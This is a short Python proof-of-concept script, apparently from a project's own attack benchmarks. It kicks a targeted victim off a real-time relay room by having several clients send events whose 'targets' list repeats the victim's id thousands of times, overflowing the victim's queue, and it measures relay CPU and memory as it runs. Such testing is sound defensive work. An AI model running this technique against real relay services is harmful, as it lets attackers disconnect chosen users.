"""Targeted kick via the targets list: A attackers burst SendEvents whose payload is empty
but whose `targets` repeats the victim's id ~16 KB worth. The room's per-member relay
budget counts payload+kind only, so the victim's reliable queue (256 KiB) overflows.
Usage: A=3 N=8 python3 targets_kick.py   (TR_URL, TR_PID set)"""
import asyncio, os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))  # bench/attacks: tr.py
from tr import *

A = int(os.environ.get("A", "3"))
N = int(os.environ.get("N", "8"))
REP = int(os.environ.get("REP", "15000"))
PAY = int(os.environ.get("PAY", "0"))
ROOM = os.environ.get("ROOM", "tkroom")

async def reader(ws, stats):
    try:
        async for d in ws:
            stats["bytes"] += len(d)
            dm = decode(d).messages
            if any(m.WhichOneof("kind")=="event" for m in dm):
                stats.setdefault("ev_t", []).append((round(time.time()%100,2), sum(1 for m in dm if m.WhichOneof("kind")=="event")))
            for m in dm:
                k = m.WhichOneof("kind")
                stats[k] = stats.get(k, 0) + 1
                if k == "error":
                    stats.setdefault("errs", []).append((m.error.code, m.error.message[:60]))
    except Exception as e:
        stats["exc"] = repr(e)[:100]
    stats["close"] = close_info(ws)

async def main():
    pid = pid_of_relay()
    vws, vid = await member(ROOM)
    vstats = {"bytes": 0}
    vt = asyncio.create_task(reader(vws, vstats))
    atk = [await member(ROOM) for _ in range(A)]
    astats = []
    for ws, _ in atk:
        s = {"bytes": 0}; astats.append(s)
        asyncio.create_task(reader(ws, s))
    await asyncio.sleep(1.5)
    c0, t0 = cpu_secs(pid), time.time()
    msg = env(cm(event=pb.SendEvent(room=ROOM, kind="x", payload=b"A" * PAY, targets=[vid] * REP)))
    print("event message bytes", len(msg), "victim id", vid)
    async def burst(ws):
        for _ in range(N):
            await ws.send(msg)
    await asyncio.gather(*[burst(ws) for ws, _ in atk])
    await asyncio.sleep(3)
    c1, t1 = cpu_secs(pid), time.time()
    print(f"victim: {vstats}")
    print(f"attackers: {[(s.get('close'), s.get('errs')) for s in astats]}")
    print(f"relay cpu {100*(c1-c0)/(t1-t0):.0f}%  rss {rss_kib(pid)} KiB")
    for ws, _ in atk:
        await ws.close()
    await vws.close()

asyncio.run(asyncio.wait_for(main(), 50))
